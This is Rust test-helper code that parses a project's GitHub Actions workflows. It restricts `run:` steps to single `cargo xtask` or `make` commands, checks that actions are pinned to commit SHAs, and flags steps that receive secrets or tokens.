const ALLOWED_SECRET: &str = "secrets.RELEASE_WEBHOOK_URL";

/// Variables the runner sets for every step.
const RUNNER_VARIABLES: &[&str] = &["GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY"];

/// What an `"$NAME"` argument stands for when the CLI parses a workflow's call.
const PLACEHOLDER: &str = "value-from-env";

/// Parses a `run:` script: one line, `cargo xtask` or `make`, then plain words and `"$NAME"`
/// references, and for the xtask optionally `>> "$GITHUB_OUTPUT"` at the end. Anything a shell
/// would interpret (expressions, `;`, `&&`, pipes, other redirections, substitutions) is refused.
fn parse_run(script: &str) -> Result<RunStep, String> {
    if script.contains("${{") {
        return Err("a `${{ }}` expression inside run: (pass it through `env:`)".into());
    }
    let lines: Vec<&str> = script.lines().map(str::trim).filter(|l| !l.is_empty()).collect();
    let [line] = lines[..] else {
        return Err(format!("expected one command, found {} lines", lines.len()));
    };
    let mut words: Vec<&str> = line.split_whitespace().collect();
    let to_output = words.ends_with(&[">>", "\"$GITHUB_OUTPUT\""]);
    if to_output {
        words.truncate(words.len() - 2);
    }
    let (xtask, rest) = match words[..] {
        ["cargo", "xtask", ref rest @ ..] => (true, rest),
        ["make", ref rest @ ..] if !to_output => (false, rest),
        _ => return Err(format!("`{line}`: expected `cargo xtask …` or `make …`")),
    };
    let mut args = Vec::new();
    let mut env = Vec::new();
    for word in rest {
        if let Some(var) = word.strip_prefix("\"$").and_then(|w| w.strip_suffix('"'))
            && !var.is_empty()
            && var.chars().all(|c| c.is_ascii_uppercase() || c == '_')
        {
            env.push(var.to_owned());
            args.push(PLACEHOLDER.to_owned());
            continue;
        }
        let plain = word.chars().all(|c| c.is_ascii_alphanumeric() || "-_./:=,+@%".contains(c));
        if !plain {
            return Err(format!("`{line}`: `{word}` is neither a plain word nor \"$NAME\""));
        }
        args.push((*word).to_owned());
    }
    if to_output {
        env.push("GITHUB_OUTPUT".to_owned());
    }
    let call = if xtask { Call::Xtask(args) } else { Call::Make(args) };
    Ok(RunStep { call, env })
}

/// The targets a Makefile defines (`name:` at the start of a line).
fn make_targets(makefile: &str) -> Vec<String> {
    makefile
        .lines()
        .filter_map(|l| l.split_once(':').map(|(name, _)| name))
        .filter(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
        .map(str::to_owned)
        .collect()
}

/// `owner/repo[/path]@<40 hex>` split into the action and the SHA.
fn pin_of(action: &str) -> Option<(&str, &str)> {
    let (repo, sha) = action.split_once('@')?;
    let hex =
        sha.len() == 40 && sha.chars().all(|c| c.is_ascii_digit() || ('a'..='f').contains(&c));
    (repo.split('/').count() >= 2 && hex).then_some((repo, sha))
}

fn is_uses_line(line: &str) -> bool {
    let line = line.trim_start();
    let line = line.strip_prefix("- ").unwrap_or(line);
    line.starts_with("uses:")
}

/// `uses: ACTION # vX.Y.Z` split into the action and the version.
fn uses_line(line: &str) -> Option<(&str, &str)> {
    let line = line.trim_start();
    let line = line.strip_prefix("- ").unwrap_or(line);
    let (action, comment) = line.strip_prefix("uses:")?.split_once(" # ")?;
    let version = comment.trim();
    let numbers = version.strip_prefix('v')?;
    let valid = numbers.split('.').all(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()));
    valid.then_some((action.trim(), version))
}

/// Whether a step has a token: a secret, github.token or a step's token output passed to it,
/// or an action that makes a registry token. (The job's OIDC request variables are in every
/// step's environment; what they can mint is what `environment: release` guards.)
fn holds_token(step: &Value) -> bool {
    let passed = format!("{}{}", step["env"], step["with"]);
    ["secrets.", "github.token", "outputs.token"].iter().any(|t| passed.contains(t))
        || step["uses"].as_str().is_some_and(|u| TOKEN_ACTIONS.iter().any(|a| u.starts_with(a)))
}

fn jobs(wf: &Workflow) -> impl Iterator<Item = (&String, &Value)> {
    wf.doc["jobs"].as_object().into_iter().flatten()
}

fn steps(job: &Value) -> impl Iterator<Item = &Value> {
    job["steps"].as_array().into_iter().flatten()
}

/// Every `run:` step: where it is (for messages), its workflow, job and step, and its script.
fn run_steps(
    workflows: &[Workflow],
) -> impl Iterator<Item = (String, (&Workflow, &Value, &Value), &str)> {
    workflows.iter().flat_map(|wf| {
        jobs(wf).flat_map(move |(job_id, job)| {
            steps(job).enumerate().filter_map(move |(i, step)| {
                let script = step["run"].as_str()?;
                let at = format!("{} job {job_id} step {}", wf.name, i + 1);
                Some((at, (wf, job, step), script))
            })
        })
    })
}

fn workflow<'a>(workflows: &'a [Workflow], name: &str) -> &'a Workflow {
    workflows.iter().find(|w| w.name == name).unwrap_or_else(|| panic!("no {name}"))
}

#[track_caller]
fn assert_none(problems: &[String], what: &str) {
    assert!(problems.is_empty(), "{what}:\n  {}", problems.join("\n  "));
}

/// The `.github` configuration as the tests read it: the workflows, Dependabot's configuration,
/// and the recorded action.yml of the composite actions they use.
struct Github {
    workflows: Vec<Workflow>,
    dependabot: Value,
    actions: caches::Recorded,
}

/// Every workflow, read once per test run.
fn workflows() -> Option<&'static [Workflow]> {
    github().map(|g| g.workflows.as_slice())
}

fn github() -> Option<&'static Github> {
    static GITHUB: OnceLock<Option<Github>> = OnceLock::new();
    GITHUB.get_or_init(|| venv_bin("python").map(|python| load(&python))).as_ref()
}

fn load(python: &Path) -> Github {
    let root = project::root();
    let workflows = super::files(&root).unwrap();
    assert!(!workflows.is_empty(), "no workflows in {}", super::DIR);
    let dependabot = root.join(super::DEPENDABOT);
    let recorded = caches::recorded_files(&root.join(caches::RECORDED_DIR));
    let files: Vec<&PathBuf> =
        workflows.iter().chain([&dependabot]).chain(recorded.iter()).collect();
    let sh = xshell::Shell::new().unwrap();
    let out = py::run(&sh, python, Script::YamlToJson).args(&files).quiet().output().unwrap();
    assert!(
        out.status.success(),
        "could not read .github and the recorded actions as YAML:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut docs: BTreeMap<String, Value> = serde_json::from_slice(&out.stdout).unwrap();
    let mut doc = |path: &Path| docs.remove(&*path.to_string_lossy()).unwrap();
    let text = |path: &Path| std::fs::read_to_string(path).unwrap();
    Github {
        workflows: workflows
            .iter()
            .map(|path| Workflow {
                name: path.file_name().unwrap().to_string_lossy().into_owned(),
                text: text(path),
                doc: doc(path),
            })
            .collect(),
        dependabot: doc(&dependabot),
        actions: recorded.iter().map(|path| caches::record(&text(path), doc(path))).collect(),
    }
}

/// A tool from the project environment, or `None` (with the reason printed) when `.venv` lacks
/// it. Under `CI=true` a missing tool is a failure, never a skip (docs/design.md §2).
fn venv_bin(name: &str) -> Option<PathBuf> {
    let path = crate::python_env::venv_bin(&project::root().join(".venv"), name);
    if path.exists() {
        return Some(path);
    }
    let message = format!(
        "workflow checks need {}; `cargo xtask test` (or `cargo xtask lint`) creates .venv",
        path.display()
    );
    let ci = std::env::var("CI").is_ok_and(|v| !v.is_empty() && v != "false" && v != "0");
    assert!(!ci, "{message}");
    eprintln!("skipped: {message}");
    None
}
